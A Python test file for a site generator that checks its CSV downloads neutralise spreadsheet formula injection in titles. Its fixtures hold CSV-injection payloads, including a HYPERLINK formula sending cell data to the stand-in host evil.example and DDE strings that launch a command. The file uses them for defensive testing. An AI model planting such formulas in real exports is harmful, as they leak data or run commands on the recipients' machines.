"""The data/*.csv downloads never hand a spreadsheet a formula (docs/measures.md, "Pages, charts and data files").

A title is free text the client's spreadsheet opens: one that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula
(OWASP, "CSV Injection"). Every text cell of every CSV the site writes gets
a single quote in front; numbers stay plain, a negative NPS
included, and the page's table shows the text as written. A carriage
return cannot reach a title at all: it is a control character, refused
when the campaign file is read (docs/format.md, "YAML details").
"""

from __future__ import annotations

import csv
import html
import io
import re

import pytest

from generator import pipeline
from tests.conftest import MINIMAL_CONFIG

EVIL = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1 tabbed",
}
INSIDE = "Film cut\n=1+1 inside"  # a line break inside a title must not start a row there
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def campaign(campaign_id: str, title: str) -> str:
    tasks = "".join(
        f"  - {{id: t-{key}, title: {yaml_str(text)}, label: done, start: 2026-01-05, done: 2026-01-{10 + n}}}\n"
        for n, (key, text) in enumerate(EVIL.items()))
    tasks += f"  - {{id: t-inside, title: {yaml_str(INSIDE)}, label: done, start: 2026-01-05, done: 2026-01-20}}\n"
    return (f"id: {campaign_id}\ntitle: {yaml_str(title)}\nclient: Client Co.\n"
            "brief:\n  deliverables:\n"
            f"    - {{id: film, title: {yaml_str(EVIL['formula'])}, due: 2026-02-01}}\n"
            f"    - {{id: posters, title: {yaml_str(EVIL['at'])}, due: 2026-02-10}}\n"
            "milestones:\n  - {id: kickoff, title: Kickoff, date: 2026-01-02, reached: true}\n"
            f"tasks:\n{tasks}"
            "assets:\n  - {id: film-cut, title: Film cut, deliverable: film, url: \"https://example.com/f\", "
            "published: 2026-01-30}\n"
            "kpis:\n"
            "  nps: [{date: 2026-01-01, value: -20}, {date: 2026-02-01, value: 5}]\n"
            "  series:\n"
            f"    - {{id: reach, title: {yaml_str(EVIL['minus'])}, unit: {yaml_str('@people')},\n"
            "       points: [{date: 2026-01-01, value: -3}, {date: 2026-02-01, value: 7}]}\n")


def yaml_str(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + escaped.replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n") + '"'


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    from tests.conftest import WorkspaceMaker

    root = WorkspaceMaker(tmp_path_factory.mktemp("ws")).write(
        MINIMAL_CONFIG, {"demo": campaign("demo", "Demo; =1+1"), "globex": campaign("globex", EVIL["plus"])})
    [result] = pipeline.build(root, audiences=["team"], output=tmp_path_factory.mktemp("out"))
    return result.path


def csv_files(site):
    found = sorted(site.rglob("*.csv"))
    assert len(found) >= 8  # cycle time, brief, NPS and the series per campaign, and the agency page's
    return found


def rows(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_no_cell_of_any_csv_starts_like_a_formula(site):
    for path in csv_files(site):
        table = rows(path)
        assert all(len(row) == len(table[0]) for row in table), path.name  # no row was cut in two
        for row in table:
            for cell in row:
                if not re.fullmatch(r"-?[0-9.]+", cell):  # a plain number, a negative one included
                    assert not cell.startswith(DANGEROUS), (path.name, cell)


def test_each_title_is_in_the_csv_behind_a_single_quote_and_on_the_page_as_written(site):
    cells = [cell for row in rows(site / "demo" / "data" / "cycle-time.csv") for cell in row]
    for text in EVIL.values():
        assert "'" + text in cells, text
    assert INSIDE in cells
    page = html.unescape((site / "demo" / "measures.html").read_text(encoding="utf-8"))
    assert EVIL["formula"] in page and "'" + EVIL["formula"] not in page
    assert rows(site / "demo" / "data" / "series-reach.csv")[0] == ["Date", "Value (@people)"]
    assert rows(site / "demo" / "data" / "series-reach.csv")[1:] == [["2026-01-01", "-3"], ["2026-02-01", "7"]]
    assert ["2026-01-01", "-20"] in rows(site / "demo" / "data" / "nps.csv")  # a number, not a text to neutralise
    agency = [cell for path in (site / "data").glob("*.csv") for row in rows(path) for cell in row]
    assert "'" + EVIL["plus"] in agency  # a campaign's title, in the agency page's tables


def test_a_carriage_return_in_a_title_is_refused_when_the_file_is_read(make_workspace):
    from generator.errors import InputError
    from generator.inputs import load_workspace

    root = make_workspace.write(MINIMAL_CONFIG, {"demo": campaign("demo", "Demo").replace(
        yaml_str(EVIL["tab"]), yaml_str("\r=1+1 returned"))})
    with pytest.raises(InputError) as caught:
        load_workspace(root)
    assert [str(p) for p in caught.value.problems] == [
        "content/campaigns/demo.yml:15: tasks[4].title: holds the control character U+000D (an escape such as "
        "\"\\u000d\" in quotes); expected text without control characters (tabs and line breaks are the only ones "
        "allowed)"]
